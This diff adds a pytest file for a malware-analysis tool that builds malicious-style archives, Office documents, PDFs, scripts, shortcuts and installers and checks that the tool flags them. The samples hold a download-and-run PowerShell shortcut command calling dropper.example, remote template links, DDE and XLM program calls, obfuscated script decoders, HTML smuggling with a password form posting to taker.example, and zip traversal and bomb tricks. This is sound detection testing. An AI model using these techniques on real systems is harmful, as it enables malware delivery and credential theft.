@@ -1,0 +1,342 @@
+"""The readers of archives, documents, scripts and shortcuts, on files made for it."""
+
+import base64
+import gzip
+import io
+import lzma
+import zipfile
+from collections.abc import Iterable
+
+import py7zr
+import pytest
+import pyzipper
+
+from stack.analysis.files.inspecting import inspect_part
+from stack.analysis.files.results import PartResult
+from tests.documents import make_docx
+from tests.file_samples import (
+    COMMAND,
+    DROPPER,
+    HARMLESS_MACRO,
+    encode_command,
+    make_cab,
+    make_doc,
+    make_docm,
+    make_harmless,
+    make_iso,
+    make_lnk,
+    make_msi,
+    make_native,
+    make_onenote,
+    make_package,
+    make_pdf_of,
+    make_rar,
+    make_relation,
+    make_rtf_object,
+    make_tar,
+)
+
+PROGRAM = b"MZ" + bytes(200)
+
+
+def read(data: bytes, name: str, *, passwords: tuple[str, ...] = ()) -> list[PartResult]:
+    parts = inspect_part(data, name=name, passwords=passwords)
+    # A reader that fails on a file of these is broken.
+    assert not [text for part in parts for text in part.remarks if "to its end" in text]
+    return parts
+
+
+def list_codes(parts: Iterable[PartResult]) -> dict[str, float]:
+    """The strongest weight of each code, without the prefix of files."""
+    found: dict[str, float] = {}
+    for part in parts:
+        for each in part.evidence:
+            code = each.code.removeprefix("file.")
+            found[code] = max(found.get(code, 0.0), each.weight)
+    return found
+
+
+def list_names(parts: Iterable[PartResult]) -> set[str]:
+    return {part.name for part in parts}
+
+
+@pytest.mark.parametrize("name", make_harmless())
+def test_what_is_sent_every_day_says_nothing_against_itself(name: str) -> None:
+    parts = read(make_harmless()[name], name)
+    # A verdict of suspicious takes 2.5 (verdicts.py).
+    assert sum(weight for weight in list_codes(parts).values() if weight > 0) <= 0.5
+
+
+@pytest.mark.parametrize("name", ["photos.zip", "source.tar", "disc.iso", "drivers.cab", "papers.rar"])
+def test_members_of_archives_are_parts(name: str) -> None:
+    parts = read(make_harmless()[name], name)
+    assert len(parts) >= 2
+    assert all(part.parent == 0 and part.relation == "contains" for part in parts[1:])
+
+
+@pytest.mark.parametrize("pack", [gzip.compress, lzma.compress])
+def test_a_packed_tar_is_read_to_its_members(pack: object) -> None:
+    assert callable(pack)
+    parts = read(pack(make_tar({"a/notes.txt": b"Notes"})), "a.tar.gz")
+    assert [part.media for part in parts][1] == "application/x-tar"
+    assert "a/notes.txt" in list_names(parts)
+
+
+def make_locked_zip(password: str, *, aes: bool = True) -> bytes:
+    buffer = io.BytesIO()
+    with pyzipper.AESZipFile(buffer, "w", encryption=pyzipper.WZ_AES if aes else None) as archive:
+        archive.setpassword(password.encode())
+        archive.writestr("sample.exe", PROGRAM)
+    return buffer.getvalue()
+
+
+def test_a_sample_is_unlocked_with_the_common_password() -> None:
+    parts = read(make_locked_zip("infected"), "a.zip")
+    assert "sample.exe" in list_names(parts)
+    assert list_codes(parts)["archive.sample-password"] > 0
+
+
+def test_a_given_password_opens_and_an_unknown_one_is_told() -> None:
+    data = make_locked_zip("correct horse")
+    assert "sample.exe" in list_names(read(data, "a.zip", passwords=("correct horse",)))
+    locked = read(data, "a.zip")
+    assert "sample.exe" not in list_names(locked)
+    assert "archive.locked" in list_codes(locked)
+
+
+def test_names_in_a_7z_may_be_locked_too() -> None:
+    buffer = io.BytesIO()
+    with py7zr.SevenZipFile(buffer, "w", password="virus", header_encryption=True) as archive:
+        archive.writestr(b"A letter", "letter.txt")
+    parts = read(buffer.getvalue(), "a.7z")
+    assert "letter.txt" in list_names(parts)
+    assert "archive.sample-password" in list_codes(parts)
+
+
+def test_a_zip_that_writes_elsewhere_and_hides_a_script_is_told() -> None:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        archive.writestr("../../up.txt", "x")
+        archive.writestr("invoice.pdf.js", "var x = 1; function f() {}")
+    codes = list_codes(read(buffer.getvalue(), "a.zip"))
+    assert codes["archive.traversal"] >= 2.5
+    assert codes["name.double-ending"] >= 2.5
+    assert "archive.lone-script" in codes
+
+
+def test_members_that_share_bytes_are_a_bomb() -> None:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        archive.writestr("one", b"a" * 5000)
+        archive.writestr("two", b"b" * 5000)
+    data = bytearray(buffer.getvalue())
+    second = data.rfind(b"PK\x01\x02")
+    data[second + 42 : second + 46] = bytes(4)
+    assert list_codes(read(bytes(data), "a.zip"))["zip.overlap"] >= 2.5
+
+
+def test_what_a_compressed_rar_holds_is_listed_and_said_to_be_unread() -> None:
+    parts = read(make_rar({"invoice.pdf .exe": b"xxxx"}, compressed=True), "a.rar")
+    assert len(parts) == 1
+    assert any("only unrar" in text for text in parts[0].remarks)
+    assert list_codes(parts)["name.double-ending"] >= 2.5
+
+
+def test_a_program_in_a_small_disc_image_is_told() -> None:
+    codes = list_codes(read(make_iso({"INVOICE.EXE": PROGRAM}, hidden=True), "a.iso"))
+    assert codes["iso.small-with-program"] > 0
+    assert codes["iso.hidden"] > 0
+
+
+def test_a_cabinet_is_unpacked() -> None:
+    parts = read(make_cab({"a.txt": b"alpha " * 50, "b.txt": b"beta"}), "a.cab")
+    assert [part.size for part in parts[1:]] == [300, 4]
+
+
+def test_macros_that_fetch_and_start_on_opening_decide() -> None:
+    for data, name in ((make_doc(DROPPER), "a.doc"), (make_docm(DROPPER), "a.docm")):
+        parts = read(data, name)
+        codes = list_codes(parts)
+        assert codes["macro.starts-itself"] > 0
+        assert codes["macro.downloads-and-executes"] >= 2.5
+        assert codes["macro.starts-programs"] >= 2.5
+        assert any(
+            each.value.startswith("http://dropper.example/") for part in parts for each in part.indicators
+        )
+
+
+def test_macros_that_compute_hardly_count() -> None:
+    assert sum(list_codes(read(make_doc(HARMLESS_MACRO), "a.doc")).values()) <= 0.5
+
+
+def test_a_module_without_its_source_is_stomped() -> None:
+    data = make_doc('Attribute VB_Name = "ThisDocument"\r\n', compiled=b"\x01\x16\x03" * 3000)
+    assert list_codes(read(data, "a.doc"))["macro.stomped"] >= 2.5
+
+
+def test_a_program_within_a_document_is_a_part() -> None:
+    data = make_doc(extra={"ObjectPool": {"_1": {"\x01Ole10Native": make_native("a.exe", PROGRAM)}}})
+    parts = read(data, "a.doc")
+    assert "a.exe" in list_names(parts)
+    assert list_codes(parts)["object.program"] > 2.5
+
+
+@pytest.mark.parametrize(
+    ("kind", "target", "weight"),
+    [
+        ("attachedTemplate", "http://dropper.example/t.dotm", 2.5),
+        ("oleObject", "mhtml:http://dropper.example/x!x", 2.5),
+        ("image", "http://pixel.example/1.png", 0.5),
+    ],
+)
+def test_what_a_document_fetches_is_told(kind: str, target: str, weight: float) -> None:
+    data = make_package(
+        {"word/document.xml": "<w:document/>", "word/_rels/settings.xml.rels": make_relation(kind, target)}
+    )
+    assert list_codes(read(data, "a.docx"))[f"office.fetches-{kind}"] == weight
+
+
+def test_a_field_torn_apart_still_starts_a_program() -> None:
+    body = "<w:p><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd.exe /k calc</w:instrText></w:p>"
+    assert list_codes(read(make_docx(body), "a.docx"))["office.dde"] >= 2.5
+
+
+def test_excel_4_macros_that_call_programs_decide() -> None:
+    data = make_package(
+        {
+            "xl/workbook.xml": '<workbook><sheet name="m" state="veryHidden"/>'
+            '<definedName name="_xlnm.Auto_Open">m!A1</definedName></workbook>',
+            "xl/macrosheets/sheet1.xml": '<c r="A1"><f>EXEC("cmd /c calc")</f></c>',
+        }
+    )
+    codes = list_codes(read(data, "a.xlsm"))
+    assert codes["macro.xlm"] >= 2.5
+    assert codes["macro.xlm-calls"] >= 2.5
+
+
+def test_entities_in_a_document_are_refused_and_told() -> None:
+    bomb = '<!DOCTYPE c [<!ENTITY a "aa"><!ENTITY b "&a;&a;&a;&a;">]><c>&b;</c>'
+    data = make_package({"word/document.xml": "<w:document/>", "docProps/core.xml": bomb})
+    assert "office.entities" in list_codes(read(data, "a.docx"))
+
+
+def test_the_equation_editor_in_rtf_is_told() -> None:
+    codes = list_codes(read(make_rtf_object(b"Equation.3", bytes(64)), "a.rtf"))
+    assert codes["object.equation"] >= 2.5
+    assert "rtf.updates" in codes
+
+
+def test_a_file_in_a_note_is_a_part() -> None:
+    parts = read(make_onenote(b"<job><script language='VBScript'>x</script></job>"), "a.one")
+    assert len(parts) == 2
+    assert list_codes(parts)["onenote.program"] >= 2.5
+
+
+def test_a_pdf_that_hides_what_it_starts_is_told() -> None:
+    data = make_pdf_of(
+        "<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
+        "<< /Type /Pages /Kids [] /Count 0 >>",
+        "<< /S /J#61vaScript /JS (app.alert\\(1\\);) >>",
+        "<< /S /Launch /F (cmd.exe) >>",
+        "<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
+        "<< /Type /EmbeddedFile /Length 202 >>\nstream\n" + PROGRAM.decode("latin-1") + "\nendstream",
+    )
+    parts = read(data, "a.pdf")
+    codes = list_codes(parts)
+    assert codes["pdf.hidden-names"] >= 2.5
+    assert codes["pdf.launch"] >= 2.5
+    assert codes["pdf.script-on-open"] > 0
+    assert "a.exe" in list_names(parts)
+
+
+def test_objects_in_object_streams_are_read() -> None:
+    import zlib
+
+    inner = b"9 0 << /S /URI /URI (http://linked.example/here) >>"
+    packed = zlib.compress(inner).decode("latin-1")
+    data = make_pdf_of(
+        "<< /Type /Catalog >>",
+        f"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {len(packed)} >>\n"
+        f"stream\n{packed}\nendstream",
+    )
+    found = {each.value for part in read(data, "a.pdf") for each in part.indicators}
+    assert "http://linked.example/here" in found
+
+
+@pytest.mark.parametrize(
+    ("script", "name"),
+    [
+        (f"@echo off\npowershell -w hidden -enc {encode_command()}\n", "a.bat"),
+        (
+            "Execute(" + " & ".join(f"Chr({ord(each)})" for each in COMMAND) + ")\nSet a = CreateObject(b)\n",
+            "a.vbs",
+        ),
+        (
+            f"$a = '{base64.b64encode(COMMAND.encode()).decode()}'\n[Convert]::FromBase64String($a) | IEX\n",
+            "a.ps1",
+        ),
+        (
+            "var a = new ActiveXObject(b); eval('" + "".join(f"\\x{ord(c):02x}" for c in COMMAND) + "')",
+            "a.js",
+        ),
+        (
+            f"$a = [array]::Reverse('{COMMAND.replace(chr(39), chr(34))[::-1]}')\nWrite-Host $a\n".replace(
+                '"', ""
+            ),
+            "b.ps1",
+        ),
+    ],
+)
+def test_what_a_script_hides_is_decoded(script: str, name: str) -> None:
+    parts = read(script.encode(), name)
+    assert list_codes(parts)["script.hidden-behaviour"] >= 2.5
+
+
+def test_a_program_in_a_script_becomes_a_part() -> None:
+    text = f'$b = [Convert]::FromBase64String("{base64.b64encode(PROGRAM).decode()}")\nWrite-Host $b\n'
+    parts = read(text.encode(), "a.ps1")
+    assert parts[1].size == len(PROGRAM)
+    assert parts[1].relation == "decodes-to"
+
+
+def test_a_page_that_makes_a_file_and_takes_a_password_is_told() -> None:
+    payload = base64.b64encode(bytes(6000)).decode()
+    page = (
+        "<html><form action='https://taker.example/in'><input type='password'></form>"
+        f"<script>var a=atob('{payload}');var b=new Blob([new Uint8Array(3)]);"
+        "l.href=URL.createObjectURL(b);l.download='a.zip'</script></html>"
+    )
+    codes = list_codes(read(page.encode(), "a.html"))
+    assert codes["html.smuggling"] >= 2.5
+    assert codes["html.password-sent"] >= 2.5
+
+
+def test_a_shortcut_that_looks_like_a_document_and_fetches_decides() -> None:
+    command = "/c powershell iwr http://dropper.example/a.exe -o a.exe; Start-Process a.exe"
+    data = make_lnk("..\\..\\Windows\\System32\\cmd.exe", command, "C:\\Reader\\AcroRd32.exe")
+    codes = list_codes(read(data, "invoice.lnk"))
+    assert codes["shortcut.icon"] >= 2.5
+    assert codes["shortcut.downloads-and-executes"] >= 2.5
+
+
+def test_a_shortcut_to_another_machine_is_told() -> None:
+    data = (
+        b"[InternetShortcut]\r\nURL=file://198.51.100.7/share/a.exe\r\nIconFile=\\\\198.51.100.7\\i.ico\r\n"
+    )
+    codes = list_codes(read(data, "a.url"))
+    assert codes["shortcut.remote"] >= 2.5
+    assert codes["shortcut.remote-icon"] >= 2.5
+
+
+def test_what_an_installer_runs_is_told() -> None:
+    parts = read(make_msi("powershell -w hidden Start-Process a.exe", 34), "a.msi")
+    assert parts[0].media == "application/x-msi"
+    assert {fact.value for fact in parts[0].facts if fact.name == "ProductName"} == {"Viewer"}
+    assert "msi.command" in list_codes(parts)
+
+
+def test_an_archive_behind_a_picture_is_a_part() -> None:
+    picture = b"\x89PNG\r\n\x1a\n" + bytes(4) + b"IEND" + bytes(4)
+    parts = read(picture + make_package({"a.txt": "x" * 100}), "a.png")
+    assert "image.appended" in list_codes(parts)
+    assert len(parts) >= 2
